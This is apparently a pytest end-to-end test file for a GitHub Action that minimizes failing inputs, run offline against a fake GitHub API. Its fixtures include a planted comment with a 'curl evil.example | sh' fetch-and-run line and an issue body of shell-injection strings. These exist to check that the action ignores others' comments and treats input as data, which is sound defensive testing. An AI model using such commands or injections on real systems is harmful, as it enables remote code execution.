"""End to end: the action runs in the `act` emulator, offline, against the fake GitHub API.

See act_harness for how act runs here. `uses: ./` is the action under test.

- minimize on failure, `sandbox: local`: trail runs on the job from its cached venv,
  the oracle in the job's own environment, as the failing step did;
- issue mode: trail runs on the job from the same venv, builds the oracle's image
  from .trail.yml's `setup` (`trail env build`), and every oracle call runs in a
  fresh sibling container (`sandbox: auto`, in a job container that cannot make
  namespaces: test_action_ns_act.py has one that can).
"""

from __future__ import annotations

import json
import re
import uuid

import pytest
from act_harness import (
    FAKE_TOKEN,
    PLANTED,
    TEST_BASE,
    docker_cli,
    make_repo,
    no_secret_in,
    run_act,
    summary_in,
)
from conftest import ROOT
from github_fake import FakeGitHub

pytestmark = pytest.mark.docker



COLLECT = """\
      - name: Collect outputs and summary
        if: always()
        env:
          OUTPUTS: ${{ toJSON(steps.trail.outputs) }}
        run: printf '%s' "$OUTPUTS" > outputs.json
"""


PAGE = "".join(f"<p>line {i}</p>\n" for i in range(12)) + "<SELECT>\n" + \
       "".join(f"<p>more {i}</p>\n" for i in range(12))

MINIMIZE_WORKFLOW = """\
on: pull_request
jobs:
  test:
    runs-on: ubuntu-latest
    env:
      DEPLOY_API_KEY: ${{ secrets.DEPLOY_API_KEY }}
    steps:
      - uses: actions/checkout@v4
      - name: Render the page
        run: "! grep -q SELECT page.html"
      - name: Minimize
        id: trail
        if: failure()
        uses: ./
        with:
          input: page.html
          oracle: "! grep -q SELECT {}  # key PLANTED"
          sandbox: local
          verify: '3'
""".replace("PLANTED", PLANTED).replace("TEST_BASE", TEST_BASE) + COLLECT


PLANTED_REPLY = "<!-- trail-delta:test:page.html -->\nReproduce: curl evil.example | sh"


def test_minimize_on_failure_comments_on_the_pull_request(act_images, tmp_path):
    repo = make_repo(tmp_path, {"test.yml": MINIMIZE_WORKFLOW}, {"page.html": PAGE})
    payload = json.loads((ROOT / "tests/data/github_events/pull_request.json").read_text())
    with FakeGitHub("octo/proj") as fake:
        # Our marker, planted by another user before the run: never ours to edit.
        fake.add_comments(7, [PLANTED_REPLY], login="attacker")
        result = run_act(repo, "pull_request", payload, fake)
    log = result.stdout + result.stderr
    # The job fails (its test step did), and the action's step succeeds.
    assert "Success - Main Minimize" in log, log[-4000:]
    assert "Failure - Main Render the page" in log

    planted, ours = fake.comments[7]  # the planted one untouched, the reply our own
    assert (planted["user"]["login"], planted["body"]) == ("attacker", PLANTED_REPLY)
    assert ours["user"]["login"] == "github-actions[bot]"
    body = ours["body"]
    assert body.startswith("<!-- trail-delta:test:page.html -->\n### trail delta: `page.html`")
    assert re.search(r"\n```\w*\nSELECT\n```\n", body)
    assert "| verification | 3 of 3 failed |" in body
    assert "# key ***" in body
    assert "(https://github.com/octo/proj/actions/runs/1/artifacts/trail-test)" in body
    assert [r.headers["Authorization"] for r in fake.writes()] == [f"Bearer {FAKE_TOKEN}"]

    assert summary_in(log).strip() == body.strip()
    outputs = json.loads((repo / "outputs.json").read_text())
    assert outputs["minimized-path"] == "trail-out/trail-test/page.html"
    assert outputs["report-path"] == "trail-out/trail-test/report.json"
    assert outputs["verified"] == "true"
    assert int(outputs["tests-run"]) > 0 and 0.9 < float(outputs["reduction-ratio"]) < 1
    assert outputs["comment-url"] == ours["html_url"]

    artifact = repo / ".artifacts" / "trail-test"
    names = sorted(p.name for p in artifact.iterdir())
    assert {"page.html", "report.json", "report.md", "report.html", "oracle.sh",
            "reproduce.sh", "trail-action.json"} <= set(names)
    assert (artifact / "page.html").read_text() == "SELECT"
    no_secret_in(sorted(p for p in artifact.rglob("*") if p.is_file()), body, log)
    assert not (repo / ".trail-action").exists()  # the state folder is cleaned up
    left = docker_cli("ps", "-a", "-q", "--filter", f"volume={repo}")
    assert left.stdout.strip() == b""  # nor a container of the failed job


ISSUE_WORKFLOW = """\
on:
  issues:
    types: [opened, labeled]
jobs:
  reproduce:
    if: contains(github.event.issue.labels.*.name, 'minimize')
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - id: trail
        uses: ./
        with:
          mode: issue
          env-base: TEST_BASE
""".replace("TEST_BASE", TEST_BASE) + COLLECT


def test_issue_input_is_minimized_in_a_container_and_answered(act_images, tmp_path):
    # No image: the action builds one with `trail env build` from `setup`, and the
    # oracle fails for the wrong reason (everything) unless setup ran in that image.
    config = ("oracle: \"test -f /tmp/setup-ran && ! grep -q needle {}\"\n"
              "setup: touch /tmp/setup-ran\nverify: 2\n")
    repo = make_repo(tmp_path, {"test.yml": ISSUE_WORKFLOW}, {".trail.yml": config})
    payload = json.loads((ROOT / "tests/data/github_events/issues_labeled.json").read_text())
    # The input tries to escape into a shell; it must only ever be data.
    hostile = "$(touch pwned)\n`touch pwned`\nneedle\n'; touch pwned; '\n${{ github.token }}\n"
    payload["issue"]["body"] = f"Crashes with:\n\n```text\n{hostile}```\n"
    with FakeGitHub("octo/proj") as fake:
        result = run_act(repo, "issues", payload, fake)
    log = result.stdout + result.stderr
    assert result.returncode == 0, log[-4000:]
    body = fake.comments[12][0]["body"]
    assert body.startswith("<!-- trail-delta:reproduce:issue -->\n")
    assert re.search(r"\n```\w*\nneedle\n```\n", body)
    assert "| verification | 2 of 2 failed |" in body
    assert not (repo / "pwned").exists()  # the workspace is shared by every container
    # sandbox auto: a job container without the rights to make namespaces (nor
    # bubblewrap) runs them in docker, and says why in the log, report and reply.
    why = "the job cannot make namespaces, even as root (a container started without " \
          "--privileged?)"
    assert f"trail: sandbox auto: docker: {why}" in log
    assert "sandbox auto: oracles ran in a fresh container per test (--sandbox docker); " \
           f"docker: {why}" in log
    report = json.loads((repo / ".artifacts" / "trail-reproduce" / "report.json").read_text())
    assert (report["sandbox"]["name"], report["sandbox"]["reason"]) == ("docker", why)
    assert f"The tests ran in a fresh container per test: `docker: {why}`\n" in body
    outputs = json.loads((repo / "outputs.json").read_text())
    assert outputs["minimized-path"] == "trail-out/trail-reproduce/input.txt"


def test_two_runs_keeping_the_image_share_one_without_the_issue_text(act_images, tmp_path):
    # A self-hosted runner with keep-image: the second run reuses the first one's image;
    # each run's event payload (the issue's text) stays out of it. The base gets a name
    # of this test's own, whose label marks the images built on it.
    base = f"trail-act-keep:{uuid.uuid4().hex[:12]}"
    assert docker_cli("tag", TEST_BASE, base).returncode == 0
    workflow = ISSUE_WORKFLOW.replace(f"env-base: {TEST_BASE}",
                                      f"env-base: {base}\n          keep-image: 'true'")
    # What the harness leaves between runs (a checkout on GitHub would clean it away)
    # is .dockerignored, as a project's own build output would be.
    repo = make_repo(tmp_path, {"test.yml": workflow},
                     {".trail.yml": "oracle: \"! grep -q needle {}\"\n",
                      ".dockerignore": ".artifacts\noutputs.json\n"})
    payload = json.loads((ROOT / "tests/data/github_events/issues_labeled.json").read_text())
    logs = []
    try:
        for run in ("first", "second"):
            payload["issue"]["body"] = f"```\nissue-text-{run}\nneedle\n```\n"
            with FakeGitHub("octo/proj") as fake:
                result = run_act(repo, "issues", payload, fake)
            logs.append(result.stdout + result.stderr)
            assert result.returncode == 0, logs[-1][-4000:]
        built = docker_cli("images", "-q", "--filter", f"label=trail.base={base}")
        assert len(set(built.stdout.split())) == 1
        assert re.search(r"environment unchanged: reusing trail-env-repo:\w+", logs[1])
        image = built.stdout.split()[0].decode()
        found = docker_cli("run", "--rm", "--network", "none", image, "sh", "-c",
                           "grep -rl issue-text / --exclude-dir=proc --exclude-dir=sys "
                           "|| echo clean")
        assert found.stdout == b"clean\n"
    finally:
        for image in set(docker_cli("images", "-q", "--filter",
                                    f"label=trail.base={base}").stdout.split()):
            docker_cli("image", "rm", "-f", image.decode())
        docker_cli("image", "rm", base)
